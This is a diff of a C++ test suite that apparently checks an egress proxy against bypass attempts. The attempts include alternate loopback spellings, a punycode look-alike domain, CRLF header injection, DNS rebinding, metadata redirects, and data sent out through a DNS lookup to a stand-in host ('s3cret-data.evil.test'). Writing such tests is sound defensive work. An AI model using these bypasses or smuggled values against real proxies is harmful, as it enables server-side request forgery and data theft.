@@ -18,9 +18,8 @@ const QByteArray kTreasure = "the treasure";
 
 std::unique_ptr<Server> treasury(const Certificates* certificates = nullptr)
 {
-    return std::make_unique<Server>([](const QByteArray&) { return ok(kTreasure); },
-                                    QString(),
-                                    certificates);
+    return std::make_unique<Server>(
+        [](const QByteArray&) { return ok(kTreasure); }, QString(), certificates);
 }
 
 /// A name that the list allows by a wildcard, and that leads to an inner address.
@@ -30,28 +29,31 @@ Attack leadsTo(const char* name, const char* defence, const char* address)
                 const auto server = treasury();
                 World world({.allow = {u"*.friendly.test:*"_s}});
                 world.resolver.set(u"a.friendly.test"_s, {{QString::fromLatin1(address)}});
-                const QByteArray answer = world.get(
-                    "http://a.friendly.test:" + QByteArray::number(server->port) + "/");
+                const QByteArray answer =
+                    world.get("http://a.friendly.test:" + QByteArray::number(server->port) + "/");
                 // Where no connection can be made the proxy has still tried.
                 return succeededIf(answer.endsWith(kTreasure) || statusOf(answer) == 502 ||
                                    statusOf(answer) == 504);
             }};
 }
 
-/// An address in another spelling, with nothing on the list that names it and a person who says
-/// yes to everything.
-Attack spelled(const char* name, const char* defence, const char* host)
+/// An address or name in another spelling, with nothing on the list that names it and a person who
+/// says yes to everything.
+Attack spelled(const char* name,
+               const char* defence,
+               const char* host,
+               const char* lookedUp = "",
+               const char* address = "127.0.0.1")
 {
-    return {name, defence, [host] {
+    return {name, defence, [host, lookedUp, address] {
                 const auto server = treasury();
                 World world({});
                 world.answer = [](const Question&) { return Future<bool>::ready(true); };
-                world.resolver.set(QString::fromLatin1(host), {{u"127.0.0.1"_s}});
-                return succeededIf(
-                    world
-                        .get("http://" + QByteArray(host) + ':' +
-                             QByteArray::number(server->port) + "/")
-                        .endsWith(kTreasure));
+                world.resolver.set(QString::fromLatin1(lookedUp), {{QString::fromLatin1(address)}});
+                return succeededIf(world
+                                       .get("http://" + QByteArray(host) + ':' +
+                                            QByteArray::number(server->port) + "/")
+                                       .endsWith(kTreasure));
             }};
 }
 
@@ -107,11 +109,27 @@ QList<Attack> addressAttacks()
         spelled("egress.short-address", "egress.loopback", "127.1"),
         spelled("egress.dotted-hexadecimal-address", "egress.loopback", "0x7f.0x0.0x0.0x1"),
         spelled("egress.address-with-a-dot-behind", "egress.loopback", "127.0.0.1."),
-        spelled("egress.localhost-with-a-dot-behind", "egress.loopback", "localhost."),
-        spelled("egress.fullwidth-address", "egress.loopback", "\xef\xbc\x91\xef\xbc\x92\xef\xbc\x97.0.0.1"),
+        spelled("egress.localhost-with-a-dot-behind", "egress.loopback", "localhost.", "localhost"),
+        {"egress.fullwidth-address",
+         "egress.loopback",
+         [] {
+             const auto server = treasury();
+             World world({});
+             world.answer = [](const Question&) { return Future<bool>::ready(true); };
+             const auto reply =
+                 world.proxy
+                     ->fetch({.url = u"http://\uff11\uff12\uff17.0.0.1:%1/"_s.arg(server->port)},
+                             world.session)
+                     .wait();
+             return succeededIf(reply && reply->body == kTreasure);
+         }},
         spelled("egress.mapped-address", "egress.mapped", "[::ffff:7f00:1]"),
-        spelled("egress.percent-escapes", "egress.percent", "%61.test"),
-        spelled("egress.characters-in-a-name", "egress.host-syntax", "a!b.test"),
+        spelled("egress.percent-escapes", "egress.percent", "%61.test", "a.test", "93.184.216.34"),
+        spelled("egress.characters-in-a-name",
+                "egress.host-syntax",
+                "a!b.test",
+                "a!b.test",
+                "93.184.216.34"),
     };
 }
 
@@ -125,10 +143,9 @@ QList<Attack> nameAttacks()
              const auto server = treasury();
              World world({.allow = {u"a.test:*"_s}});
              world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}});
-             return succeededIf(world
-                                    .get("http://user:password@a.test:" +
-                                         QByteArray::number(server->port) + "/")
-                                    .endsWith(kTreasure));
+             return succeededIf(
+                 world.get("http://user:password@a.test:" + QByteArray::number(server->port) + "/")
+                     .endsWith(kTreasure));
          }},
         {"egress.look-alike-name",
          "egress.look-alike",
@@ -139,7 +156,7 @@ QList<Attack> nameAttacks()
              world.answer = [](const Question&) { return Future<bool>::ready(true); };
              world.resolver.set(u"xn--pypal-4ve.com"_s, {{u"93.184.216.34"_s}});
              return succeededIf(
-                 world.get("http://p\u0430ypal.com:" + QByteArray::number(server->port) + "/")
+                 world.get("http://xn--pypal-4ve.com:" + QByteArray::number(server->port) + "/")
                      .endsWith(kTreasure));
          }},
         {"egress.unlisted-host",
@@ -148,9 +165,8 @@ QList<Attack> nameAttacks()
              const auto server = treasury();
              World world({.allow = {u"a.test:*"_s}});
              world.resolver.set(u"b.test"_s, {{u"93.184.216.34"_s}});
-             return succeededIf(
-                 world.get("http://b.test:" + QByteArray::number(server->port) + "/")
-                     .endsWith(kTreasure));
+             return succeededIf(world.get("http://b.test:" + QByteArray::number(server->port) + "/")
+                                    .endsWith(kTreasure));
          }},
         {"egress.unlisted-tunnel",
          "egress.list",
@@ -159,16 +175,16 @@ QList<Attack> nameAttacks()
              World world({.allow = {u"a.test:*"_s}});
              world.resolver.set(u"b.test"_s, {{u"93.184.216.34"_s}});
              return succeededIf(
-                 world.raw("CONNECT b.test:" + QByteArray::number(server->port) +
-                           " HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nConnection: close\r\n\r\n")
+                 world
+                     .raw("CONNECT b.test:" + QByteArray::number(server->port) +
+                          " HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nConnection: close\r\n\r\n")
                      .startsWith("HTTP/1.1 200"));
          }},
         {"egress.name-look-up-carries-data",
          "egress.list",
          [] {
              World world({});
-             [[maybe_unused]] const QByteArray answer =
-                 world.get("http://s3cret-data.evil.test/");
+             [[maybe_unused]] const QByteArray answer = world.get("http://s3cret-data.evil.test/");
              return succeededIf(world.resolver.asked.contains(u"s3cret-data.evil.test"_s));
          }},
         {"egress.rebinding",
@@ -189,8 +205,9 @@ QList<Attack> nameAttacks()
              Server server([](const QByteArray&) { return ok(kTreasure); }, u"10.0.0.1"_s);
              World world({.allow = {u"a.test:*"_s, u"*.b.test:*"_s}});
              world.resolver.set(u"x.b.test"_s, {{u"10.0.0.1"_s, u"93.184.216.34"_s}});
-             return succeededIf(world.get("http://x.b.test:" + QByteArray::number(server.port) + "/")
-                                    .endsWith(kTreasure));
+             return succeededIf(
+                 world.get("http://x.b.test:" + QByteArray::number(server.port) + "/")
+                     .endsWith(kTreasure));
          }},
         {"egress.redirect-to-metadata",
          "egress.redirects",
@@ -295,12 +312,11 @@ QList<Attack> smugglingAttacks()
              Server server([](const QByteArray&) { return ok("x"); });
              World world({.allow = {u"a.test:*"_s}});
              world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}});
-             const auto reply =
-                 world.proxy
-                     ->fetch({.url = u"http://a.test:%1/"_s.arg(server.port),
-                              .headers = {{"X-One", "1\r\nX-Admin: yes"}}},
-                             world.session)
-                     .wait();
+             const auto reply = world.proxy
+                                    ->fetch({.url = u"http://a.test:%1/"_s.arg(server.port),
+                                             .headers = {{"X-One", "1\r\nX-Admin: yes"}}},
+                                            world.session)
+                                    .wait();
              return succeededIf(server.asked().contains("\r\nX-Admin: yes\r\n"));
          }},
     };
@@ -314,8 +330,9 @@ struct Keyed
     Server other;
     World world;
 
-    explicit Keyed(Server::Handler handler = [](const QByteArray&) { return ok("x"); },
-                   const QByteArray& key = "t0p-s3cret")
+    explicit Keyed(
+        Server::Handler handler = [](const QByteArray&) { return ok("x"); },
+        const QByteArray& key = "t0p-s3cret")
         : git(handler, {}, &certificates)
         , other(std::move(handler))
         , world({.allow = {place(), u"other.test:*"_s},
@@ -421,11 +438,10 @@ Attack leaks(const char* name, const char* path, const char* header, const char*
                 World world({.allow = {u"a.test:*"_s}});
                 world.scanner = [] { return std::make_unique<WordScanner>(); };
                 world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}});
-                [[maybe_unused]] const QByteArray answer =
-                    world.raw("POST http://a.test:" + QByteArray::number(server.port) + path +
-                              " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n" + header +
-                              "Content-Length: " + QByteArray::number(qstrlen(body)) + "\r\n\r\n" +
-                              body);
+                [[maybe_unused]] const QByteArray answer = world.raw(
+                    "POST http://a.test:" + QByteArray::number(server.port) + path +
+                    " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n" + header +
+                    "Content-Length: " + QByteArray::number(qstrlen(body)) + "\r\n\r\n" + body);
                 return succeededIf(server.asked().contains("AKIA-LEAK"));
             }};
 }
@@ -464,8 +480,7 @@ QList<Attack> otherAttacks()
              World world({.allow = {u"a.test:*"_s}});
              world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}});
              Line line(world.port);
-             line.write("CONNECT a.test:" + QByteArray::number(server->port) +
-                        " HTTP/1.1\r\n\r\n");
+             line.write("CONNECT a.test:" + QByteArray::number(server->port) + " HTTP/1.1\r\n\r\n");
              line.readUntil("\r\n\r\n");
              line.write("\x16\x01\x01\x01\x01 GET / HTTP/1.1\r\n\r\n");
              ::shutdown(line.fd(), SHUT_WR);
